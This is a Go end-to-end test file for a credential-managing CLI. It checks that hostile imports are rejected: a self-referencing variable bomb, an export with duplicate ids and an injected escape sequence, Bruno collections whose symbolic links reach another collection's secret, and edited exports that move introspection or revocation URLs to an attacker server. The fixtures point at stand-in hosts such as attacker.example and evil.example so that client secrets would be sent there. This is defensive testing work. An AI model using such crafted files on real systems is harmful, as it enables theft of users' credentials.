package e2e

// Hostile collections through `tokentray import --from … --dry-run`, the
// real binary: variable bombs, Insomnia exports whose ids repeat, and Bruno
// collections that reach other files through symbolic links. Each must end
// with a short, printable answer, and no secret read from elsewhere may
// show up as a usable row.

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

func writeTestFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func TestHostileImportsCLI(t *testing.T) {
	t.Parallel()
	requireSession(t)
	u := newCLIUser(t)
	u.extra = []string{"LC_ALL=en_US.UTF-8"}
	dir := t.TempDir()
	// dryRun runs the import preview; its output must stay small whatever
	// the file asks for.
	dryRun := func(t *testing.T, args ...string) (int, string, string) {
		t.Helper()
		u := &cliUser{t: t, bin: u.bin, home: u.home, tmp: u.tmp, service: u.service, extra: u.extra}
		code, out, errs := u.run("", append(append([]string{"import"}, args...), "--dry-run")...)
		if len(out)+len(errs) > 16<<10 {
			t.Fatalf("exit %d, %d bytes of output:\n%.2000s", code, len(out)+len(errs), out+errs)
		}
		return code, out, errs
	}

	t.Run("a Postman variable that refers to itself", func(t *testing.T) {
		// The probe of issue 17 had 6 references (812 MiB); 5 keep a
		// failing binary within about 100 MiB.
		path := filepath.Join(dir, "bomb.postman_collection.json")
		writeTestFile(t, path, `{"info":{"name":"Bomb","schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},`+
			`"variable":[{"key":"a","value":"`+strings.Repeat("{{a}}", 5)+`"}],"item":[{"name":"r","request":{"url":"https://x","auth":{"type":"oauth2",`+
			`"oauth2":[{"key":"grant_type","value":"client_credentials"},{"key":"accessTokenUrl","value":"https://auth.example.com/{{a}}"},`+
			`{"key":"clientId","value":"{{a}}"},{"key":"clientSecret","value":"s"}]}}}]}`)
		code, out, errs := dryRun(t, "--from", "postman", path)
		if code != 0 || strings.Count(out, "refers to itself") != 2 || !strings.Contains(out, "not importable: token URL: variable {{a}} refers to itself") {
			t.Fatalf("exit %d\n%s%s", code, out, errs)
		}
	})

	t.Run("an Insomnia export whose groups share an id", func(t *testing.T) {
		// Two groups per level with one _id: the walk doubled per level.
		res := []string{`{"_id":"wrk","_type":"workspace","name":"Dup"}`}
		parent := "wrk"
		for level := range 14 {
			id := fmt.Sprintf("fld_%d\x1b[2J", level)
			for range 2 {
				res = append(res, fmt.Sprintf(`{"_id":%s,"_type":"request_group","parentId":%s,"name":"g"}`, jsonString(id), jsonString(parent)))
			}
			parent = id
		}
		res = append(res, fmt.Sprintf(`{"_id":"req","_type":"request","parentId":%s,"name":"r","authentication":{"type":"oauth2",`+
			`"grantType":"client_credentials","accessTokenUrl":"https://auth.example.com/token","clientId":"c","clientSecret":"s"}}`, jsonString(parent)))
		path := filepath.Join(dir, "dup.json")
		writeTestFile(t, path, `{"_type":"export","__export_format":4,"resources":[`+strings.Join(res, ",")+`]}`)
		code, out, errs := dryRun(t, "--from", "insomnia", path)
		if code != 1 || out != "" || !strings.Contains(errs, `_id "fld_0" is used by more than one resource`) || strings.Contains(errs, "\x1b") {
			t.Fatalf("exit %d\n%q\n%q", code, out, errs)
		}
	})

	t.Run("Bruno files reached through symbolic links", func(t *testing.T) {
		// Another collection on the same machine, with a real secret.
		victim := filepath.Join(dir, "victim")
		writeTestFile(t, filepath.Join(victim, "bruno.json"), `{"name":"Victim"}`)
		writeTestFile(t, filepath.Join(victim, "collection.bru"), "auth {\n  mode: oauth2\n}\n\nauth:oauth2 {\n  grant_type: client_credentials\n"+
			"  access_token_url: https://auth.victim.example/token\n  client_id: victim\n  client_secret: {{client_secret}}\n}\n")
		writeTestFile(t, filepath.Join(victim, "environments", "Prod.bru"), "vars {\n  client_secret: victim-s3cret-value\n}\n")
		// The attacker's collection sends whatever secret it finds to its own URL.
		attacker := func(t *testing.T) string {
			root := filepath.Join(t.TempDir(), "shared-collection")
			writeTestFile(t, filepath.Join(root, "bruno.json"), `{"name":"Shared"}`)
			writeTestFile(t, filepath.Join(root, "collection.bru"), "auth {\n  mode: oauth2\n}\n\nauth:oauth2 {\n  grant_type: client_credentials\n"+
				"  access_token_url: https://attacker.example/token\n  client_id: victim\n  client_secret: {{client_secret}}\n}\n")
			return root
		}
		link := func(t *testing.T, target, name string) {
			t.Helper()
			os.MkdirAll(filepath.Dir(name), 0o700)
			if err := os.Symlink(target, name); err != nil {
				t.Fatal(err)
			}
		}
		for _, c := range []struct {
			name  string
			setup func(t *testing.T, root string)
			env   string
			want  string
		}{
			{"environment file linked to another collection's", func(t *testing.T, root string) {
				link(t, filepath.Join(victim, "environments", "Prod.bru"), filepath.Join(root, "environments", "Dev.bru"))
			}, "", "environments/Dev.bru is a symbolic link"},
			{"environment chosen by name, linked", func(t *testing.T, root string) {
				link(t, filepath.Join(victim, "environments", "Prod.bru"), filepath.Join(root, "environments", "Prod.bru"))
			}, "Prod", "environments/Prod.bru is a symbolic link"},
			{"environments folder linked", func(t *testing.T, root string) {
				link(t, filepath.Join(victim, "environments"), filepath.Join(root, "environments"))
			}, "", "environments is a symbolic link"},
			{"environment linked inside the collection", func(t *testing.T, root string) {
				writeTestFile(t, filepath.Join(root, "notes", "Prod.env"), "vars {\n  client_secret: in-root-s3cret\n}\n")
				link(t, "../notes/Prod.env", filepath.Join(root, "environments", "Dev.bru"))
			}, "", "environments/Dev.bru is a symbolic link"},
			{"collection.bru linked", func(t *testing.T, root string) {
				os.Remove(filepath.Join(root, "collection.bru"))
				link(t, filepath.Join(victim, "collection.bru"), filepath.Join(root, "collection.bru"))
			}, "", "collection.bru is a symbolic link"},
			{"bruno.json linked", func(t *testing.T, root string) {
				os.Remove(filepath.Join(root, "bruno.json"))
				link(t, filepath.Join(victim, "bruno.json"), filepath.Join(root, "bruno.json"))
			}, "", "bruno.json is a symbolic link"},
			{"a request linked", func(t *testing.T, root string) {
				link(t, filepath.Join(victim, "collection.bru"), filepath.Join(root, "Orders", "List.bru"))
			}, "", "Orders/List.bru is a symbolic link"},
		} {
			t.Run(c.name, func(t *testing.T) {
				root := attacker(t)
				c.setup(t, root)
				args := []string{"--from", "bruno", root}
				if c.env != "" {
					args = append(args, "--env", c.env)
				}
				code, out, errs := dryRun(t, args...)
				if code != 1 || out != "" || !strings.Contains(errs, c.want) || !strings.Contains(errs, "Tokentray reads only regular files inside the collection") {
					t.Fatalf("exit %d\nstdout %q\nstderr %q", code, out, errs)
				}
			})
		}
	})
}

// TestImportKeepsNoSecretWhenEndpointsMove: every endpoint that receives
// the client's credentials, and the CA bundle that decides which server
// may answer, belong to the client's identity. A Tokentray export without
// secrets that keeps the name, token URL, client ID and authentication
// method but moves the introspection or revocation URL to another origin,
// or only adds a CA bundle, must not get the stored secret: before, the
// import replaced the profile, kept the secret, and `introspect` sent it
// (HTTP Basic) to the file's server.
func TestImportKeepsNoSecretWhenEndpointsMove(t *testing.T) {
	requireSession(t, "secret-tool")
	u := newCLIUser(t)
	u.extra = []string{"LC_ALL=en_US.UTF-8"}
	secret := "cs-" + randomHex(16)
	srv := newE2EServer(t, "svc-client", secret)
	var stolen atomic.Int32
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		stolen.Add(1)
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"active":true}`)
	}))
	defer attacker.Close()
	u.mustRun(secret, "add", "svc", "--token-url", srv.URL+"/token", "--client-id", "svc-client",
		"--introspection-url", srv.URL+"/introspect", "--revocation-url", srv.URL+"/revoke")
	export := u.mustRun("", "export")
	if strings.Contains(export, secret) {
		t.Fatal("an export without --with-secrets holds the secret")
	}
	caPEM := "-----BEGIN CERTIFICATE-----\\nMIIBhostile\\n-----END CERTIFICATE-----\\n"
	for _, change := range []struct{ from, to, what string }{
		{srv.URL + "/introspect", attacker.URL + "/introspect", "introspection URL"},
		{srv.URL + "/revoke", attacker.URL + "/revoke", "revocation URL"},
		{`"client_id": "svc-client"`, `"client_id": "svc-client", "ca_bundle_pem": "` + caPEM + `"`, "CA bundle"},
	} {
		hostile := strings.Replace(export, change.from, change.to, 1)
		if hostile == export {
			t.Fatalf("export has no %q:\n%s", change.from, export)
		}
		path := filepath.Join(t.TempDir(), "hostile.json")
		writeTestFile(t, path, hostile)
		code, out, errs := u.run("", "import", path)
		if code != 1 || !strings.Contains(errs, `profile "svc" not imported: it changes the `+change.what) {
			t.Errorf("%s changed: exit %d stdout %q stderr %q; want it refused as another client", change.what, code, out, errs)
		}
		u.run("", "introspect", "svc")
		u.run("", "revoke", "svc")
	}
	if n := stolen.Load(); n != 0 {
		t.Fatalf("the file's server received %d requests (with the stored secret)", n)
	}
	// The stored profile is unchanged and its own export still re-imports.
	if all := u.mustRun("", "export", "--with-secrets"); !strings.Contains(all, secret) || !strings.Contains(all, srv.URL+"/introspect") || strings.Contains(all, "ca_bundle_pem") {
		t.Fatalf("the stored profile changed:\n%s", all)
	}
	path := filepath.Join(t.TempDir(), "own.json")
	writeTestFile(t, path, export)
	if out := u.mustRun("", "import", path); !strings.Contains(out, "1 replaced") {
		t.Fatalf("re-import of the own export: %q", out)
	}
}

// TestInspectionURLsKeepToTheClientsOrigin: an introspection or revocation
// URL set on a profile receives the client's credentials, so it follows the
// rule of discovered endpoints: the token URL's or issuer's origin, or one
// allowed with --allow-endpoint-origin. Before, any https URL was taken.
func TestInspectionURLsKeepToTheClientsOrigin(t *testing.T) {
	requireSession(t, "secret-tool")
	u := newCLIUser(t)
	u.extra = []string{"LC_ALL=en_US.UTF-8"}
	u.mustRun("s3cret-s3cret", "add", "svc", "--token-url", "https://auth.example.com/token", "--client-id", "c")
	for _, flag := range []string{"--introspection-url", "--revocation-url"} {
		code, out, errs := u.run("", "edit", "svc", flag, "https://evil.example/x")
		if code == 0 || !strings.Contains(errs, "https://evil.example") || !strings.Contains(errs, "https://auth.example.com") {
			t.Errorf("edit %s on another origin: exit %d stdout %q stderr %q; want it refused", flag, code, out, errs)
		}
	}
	u.mustRun("", "edit", "svc", "--introspection-url", "https://auth.example.com/introspect")
	u.mustRun("", "edit", "svc", "--introspection-url", "https://admin.example.com:4445/introspect", "--allow-endpoint-origin", "https://admin.example.com:4445")
}
